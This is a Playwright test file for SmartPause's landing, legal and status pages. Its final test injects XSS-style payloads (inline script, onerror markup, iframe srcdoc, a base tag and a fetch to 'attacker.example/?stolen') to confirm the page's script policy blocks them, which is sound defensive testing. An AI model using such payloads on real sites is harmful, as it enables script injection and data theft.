import { PHONE, expect, test } from './support/fixtures.ts';

const PROBLEMS = [
  'Broken delivery',
  'Bot traffic',
  'ROAS collapse',
  'Overspending after recovery',
  'No notification',
  'Zero transparency',
];

const FIRST_SCRIPT = '**/assets/start-*.js';

for (const javaScriptEnabled of [true, false])
  test.describe(javaScriptEnabled ? 'with scripts' : 'without scripts', () => {
    test.use({ javaScriptEnabled });

    test('[LAND-01, LAND-02, LAND-03, LAND-04, ROUTE-01, HEAD-02, HEAD-08] all sections of the landing page are present, and its menus and questions open', async ({
      nora,
      page,
    }) => {
      await nora.opens('/');
      await expect(
        page.getByRole('heading', { level: 1, name: 'Stop paying for Meta’s outages' }),
      ).toBeVisible();
      await nora.sees('30 days free, then $29.00 per month or $278.00 per year.');
      for (const name of PROBLEMS) await expect(page.getByRole('heading', { level: 3, name })).toBeVisible();
      await expect(page.getByRole('img', { name: /^Timeline of the Meta outage/ })).toBeVisible();
      await nora.sees('The outage of January 8, 2026, replayed');
      await expect(page.getByRole('figure').filter({ hasText: 'Example: your email' })).toContainText(
        'SmartPause paused 2 campaigns',
      );
      await nora.sees('Billed annually ($278) after trial');
      const trials = await page.getByRole('link', { name: 'Start Free Trial' }).all();
      expect(trials.length).toBeGreaterThanOrEqual(4);
      for (const trial of trials) await expect(trial).toHaveAttribute('href', /^\/payment(\?|$)/);
      for (const name of ['Privacy Policy', 'Terms of Service'])
        await expect(page.getByRole('contentinfo').getByRole('link', { name })).toBeVisible();
      await expect(page).toHaveTitle('Stop paying for Meta’s outages · SmartPause');

      await page.getByRole('navigation').getByText('About', { exact: true }).click();
      await expect(page.getByRole('navigation').getByRole('link', { name: 'Privacy Policy' })).toBeVisible();
      await page.getByText('Does it catch every outage?').click();
      await nora.sees(/as soon as Meta posts it/);
      await page.setViewportSize(PHONE);
      await nora.opens('/');
      await nora.presses('Menu');
      const menu = page.getByRole('navigation', { name: 'Main' });
      await expect(menu.getByRole('link', { name: 'Log In' })).toBeVisible();
      await page.keyboard.press('Escape');
      await expect(menu).toBeHidden();
    });
  });

test('[ROUTE-02, ROUTE-03] a user with a session never sees the landing page, and the end of the session shows it', async ({
  nora,
  page,
}) => {
  await nora.signsIn();
  // Only the script that runs before the first paint.
  await page.route(FIRST_SCRIPT, (route) => route.fulfill({ contentType: 'text/javascript', body: '' }));
  await nora.opens('/');
  await expect(page.getByText('Stop paying for').first()).toBeHidden();
  await page.unroute(FIRST_SCRIPT);
  await nora.opens('/');
  await nora.sees('Get Started - Monthly');
  await expect(page.getByText('Stop paying for')).toHaveCount(0);
  await nora.presses(/^Log out$/);
  await nora.isAtLandingPage();
  await expect(page).toHaveTitle('Stop paying for Meta’s outages · SmartPause');
  await nora.opens('/');
  const loaded = page.waitForEvent('load');
  await nora.storesInAnotherTab('not-a-session');
  await loaded;
});

test('[LAND-01] a link to a section leads there also where the app draws the landing page', async ({
  nora,
  page,
}) => {
  await nora.opens('/?error=AUTH_FAILED#prices');
  await nora.sees('Authentication Failed');
  await expect(page.locator('#prices')).toBeInViewport();
});

test('[LAND-01] the landing page has the system’s color scheme, or the one chosen on another page', async ({
  nora,
  page,
}) => {
  const isDrawn = (color: string) =>
    expect.poll(() => page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe(color);
  const [LIGHT, DARK] = ['rgb(246, 247, 249)', 'rgb(15, 18, 22)'];
  await page.emulateMedia({ colorScheme: 'light' });
  await nora.opens('/');
  await isDrawn(LIGHT);
  await page.emulateMedia({ colorScheme: 'dark' });
  await isDrawn(DARK);
  const choice = page.getByRole('contentinfo').getByLabel('Color theme');
  await expect(choice).toBeHidden();
  await nora.opens('/terms');
  await expect(choice).toHaveValue('auto');
  await choice.selectOption('Light theme');
  await nora.opens('/');
  await isDrawn(LIGHT);
});

test('[LAND-01] a visitor does not download the app, and link previews have a picture, a title and the address of SmartPause', async ({
  nora,
  page,
  request,
  world,
}) => {
  const fetched: string[] = [];
  page.on('request', (asked) => fetched.push(new URL(asked.url()).pathname));
  await nora.opens('/');
  await page.waitForLoadState('networkidle');
  const ofTheApp = /start-app|vendor|\/app-|home-|settings|pricing|\/api\//;
  expect(fetched.filter((path) => ofTheApp.test(path))).toEqual([]);
  await expect(page.locator('link[rel=canonical]')).toHaveAttribute('href', `${world.url}/`);
  for (const [name, content] of [
    ['property="og:title"', 'Stop paying for Meta’s outages'],
    ['name="twitter:card"', 'summary_large_image'],
    ['property="og:image"', `${world.url}/social-card.png`],
  ] as const)
    await expect(page.locator(`meta[${name}]`)).toHaveAttribute('content', content);
  const png = await (await request.get(`${world.url}/social-card.png`)).body();
  expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([1200, 630]);
  expect(png.length).toBeLessThan(300_000);
});

const LEGAL = [
  [
    '/terms',
    ['Termination', 'Limitations', 'Governing law', 'Arbitration'],
    [
      /governed by the laws of the State of Illinois/,
      /binding arbitration in Chicago, Illinois/,
      /Emails for SmartPause actions are mandatory/,
    ],
  ],
  [
    '/privacy',
    ['Who we share it with', 'How long we keep it', 'After a deletion'],
    [
      /Emails for SmartPause actions are mandatory/,
      /For a copy of everything we store about you, write to smartpause@localhost\.localdomain\./,
    ],
  ],
] as const;

test('[ROUTE-10, FMT-03] the legal pages have a date, their sections, the company and a contact', async ({
  nora,
  page,
}) => {
  for (const [path, headings, texts] of LEGAL) {
    await nora.opens(path);
    await nora.sees('Last changed: November 28, 2026');
    for (const name of headings) await expect(page.getByRole('heading', { level: 2, name })).toBeVisible();
    for (const text of texts) await nora.sees(text);
    const contact = page.getByRole('heading', { name: 'Contact' }).locator('..').getByRole('link');
    await expect(contact).toHaveAttribute('href', 'mailto:smartpause@localhost.localdomain');
  }

  // Without what our server inserts, they name only the product.
  await page.route('**/terms', async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replaceAll(/<meta name="smartpause-(company|contact)[^>]*>/g, '');
    await route.fulfill({ response: answer, body });
  });
  await nora.opens('/terms');
  await nora.sees('SmartPause (“we”) operates the SmartPause service.');
  await nora.sees('Reply to any email that you have received from us.');
  await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy' }).click();
  await nora.sees(/For a copy of everything we store about you, reply to any email from us\./);
});

test.describe('without a script, on a phone', () => {
  test.use({ javaScriptEnabled: false, viewport: PHONE });

  test('[HIST-06] the status page is reached from the landing page', async ({ page, world }) => {
    await page.goto(world.url);
    await page.getByRole('contentinfo').getByRole('link', { name: 'Meta status' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Meta ad delivery: Up' })).toBeVisible();
    expect(new URL(page.url()).pathname).toBe('/status');
    const delivery = page.getByRole('row', { name: /^Ads Delivery/ });
    await expect(delivery).toContainText(/SmartPause acts on this[^]*Up/);
    await expect(page.getByText('SmartPause has no record of these days yet.')).toBeVisible();
    await expect(page.getByRole('listitem').filter({ hasText: 'adstatus.app' }).first()).toBeVisible();
    await page.getByRole('link', { name: 'SmartPause home' }).click();
    await expect(page.getByRole('link', { name: 'Start Free Trial' }).first()).toBeVisible();
  });
});

test('[HIST-06] the status page shows an outage with shape, word and table, by keyboard too', async ({
  page,
  world,
}) => {
  await world.reports('High disruptions');
  // The server keeps the page until the change is announced to it.
  const text = async () => (await page.request.get(`${world.url}/status`)).text();
  await expect.poll(text).toContain('Meta ad delivery: High disruption');
  await page.goto(`${world.url}/status`);
  await expect(
    page.getByRole('heading', { level: 1, name: 'Meta ad delivery: High disruption' }),
  ).toBeVisible();
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect.poll(() => page.evaluate('document.activeElement.id')).toBe('content');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('row', { name: /\d{4} High under 1 min so far/ })).toBeVisible();
  const fonts = await page.evaluate<string[]>('[...document.fonts].map(({ status }) => status)');
  expect(fonts).toEqual(['loaded']);
});

test('injected markup and scripts have no effect', async ({ page, world }) => {
  for (const path of ['/', '/terms']) {
    await page.goto(world.url + path);
    await expect(page.getByRole('contentinfo')).toBeVisible();
    // Each attack records what the browser allowed.
    const done = await page.evaluate<string[]>(`(async () => {
          const done = [];
          // What runs in the evaluation itself may do more than the page.
          await new Promise(requestAnimationFrame);
          globalThis.note = (what) => done.push(what);
          const attempt = (act) => { try { act(); } catch {} };
          const put = (name, fields) => {
            const element = Object.assign(document.createElement(name), fields);
            document.body.append(element);
            return element;
          };
          attempt(() => put('script', { textContent: 'note("inline script")' }));
          attempt(() => { put('div').innerHTML = '<img src="x" onerror="note(\\'markup\\')">'; note('made markup'); });
          attempt(() => put('button').setAttribute('onclick', 'note("handler")'));
          attempt(() => put('iframe', { srcdoc: '<script>parent.note("frame")</script>' }));
          attempt(() => new Function('note("code from text")')());
          attempt(() => put('base', { href: 'https://attacker.example/' }));
          if (!document.baseURI.startsWith(location.origin)) note('base');
          await fetch('https://attacker.example/?stolen').then(() => note('sent'), () => undefined);
          document.querySelectorAll('button').forEach((button) => button.hasAttribute('onclick') && button.click());
          await new Promise(requestAnimationFrame);
          return done;
        })()`);
    expect(done, path).toEqual([]);
  }
});
